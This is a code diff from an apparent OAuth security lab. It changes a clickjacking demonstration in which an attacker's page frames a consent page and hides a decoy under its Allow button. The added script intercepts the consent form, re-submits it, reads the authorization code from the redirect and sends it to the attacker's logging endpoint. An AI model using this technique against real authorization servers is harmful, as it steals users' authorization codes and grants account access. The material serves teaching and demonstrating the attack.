@@ -14,9 +14,10 @@ import { BACK_SCRIPT } from './back-link';
  * - on every load of the frame, reports to `POST …/frame-check` whether the AS page rendered in it
  *   (a refused frame holds an opaque error document: `contentDocument` is null) and whether the
  *   consent page's Allow button is there; it then moves the decoy under that button;
- * - when the frame reaches the client's callback with a code, sends that query to `GET …/framed-consent`
- *   (recorded in her log, the Attacker's console): in the lab the client's callback is on her origin,
- *   where a real attacker's own registered client would receive the code at her redirect URI.
+ * - when Alice's click submits the framed consent form, sends that same form itself (same origin: it can read
+ *   where the AS redirects, which a frame could not show, the client's callback page refusing to be framed) and
+ *   passes the code to `GET …/framed-consent` (recorded in her log, the Attacker's console). A real attacker's own
+ *   registered client would simply receive the code at her redirect URI.
  *
  * The frame is sandboxed without scripts (forms only): the AS pages work without script, and the lab's
  * own callback page, if Alice allows, does not run inside Mallory's frame. The frame is shown at half
@@ -34,6 +35,12 @@ const CLICKJACK_SCRIPT = [
   "if(doc.location.pathname==='/flows/callback'){if(!done&&/[?&]code=/.test(doc.location.search)){done=true;fetch(base+'/framed-consent'+doc.location.search);}",
   "f.style.visibility='hidden';s.textContent='Alice\\u2019s click went to the framed Allow button: the authorization server sent its answer into Mallory\\u2019s frame, and her page passed it to her site.';return;}",
   "var allow=doc.querySelector('button[value=\"allow\"]');report(true,!!allow);",
+  // The click lands on the framed form; the redirect it causes goes to the client's callback, a page that may not be framed,
+  // so her same-origin script sends the form the click submitted itself and reads where the AS redirected.
+  "if(allow&&allow.form&&!allow.form.dataset.watched){var form=allow.form;form.dataset.watched='1';form.addEventListener('submit',function(ev){ev.preventDefault();",
+  "fetch(form.action,{method:'POST',body:new URLSearchParams(new FormData(form,ev.submitter)),credentials:'same-origin'}).then(function(r){var u=new URL(r.url);",
+  "if(!done&&u.pathname==='/flows/callback'&&u.searchParams.get('code')){done=true;fetch(base+'/framed-consent'+u.search);}",
+  "f.style.visibility='hidden';s.textContent='Alice\u2019s click went to the framed Allow button: the authorization server answered with a redirect carrying the code, and her page passed it to her site.';});});}",
   "if(allow){var r=allow.getBoundingClientRect();d.style.left=r.left+'px';d.style.top=r.top+'px';d.style.width=Math.max(r.width,120)+'px';d.style.height=Math.max(r.height,40)+'px';",
   "s.textContent='The consent page rendered inside Mallory\\u2019s frame. The decoy now sits exactly under its Allow button: press the prize button.';}",
   "else{s.textContent='The authorization server\\u2019s page rendered inside Mallory\\u2019s frame. In the lab, sign in as alice / wonderland inside the frame first.';}}",
